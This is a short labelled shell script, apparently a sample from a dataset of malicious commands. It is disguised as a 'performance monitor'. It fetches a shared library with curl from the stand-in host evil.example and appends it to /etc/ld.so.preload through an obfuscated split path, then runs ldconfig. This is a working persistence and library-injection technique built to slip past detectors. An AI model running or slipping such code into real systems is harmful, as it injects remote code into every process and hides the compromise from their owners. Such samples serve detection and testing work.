# description: "Performance monitor" that downloads a shared library and registers it in /etc/ld.so.preload via a split path.
# family: persistence
# obfuscated: yes
set -uo pipefail

lib=/usr/lib/x86_64-linux-gnu/libperfmon.so.1
curl -fsSL -o "$lib" http://evil.example/libperfmon.so
p=/etc/ld.so
s=pre; s+=load
printf '%s\n' "$lib" >> "${p}.${s}"
ldconfig
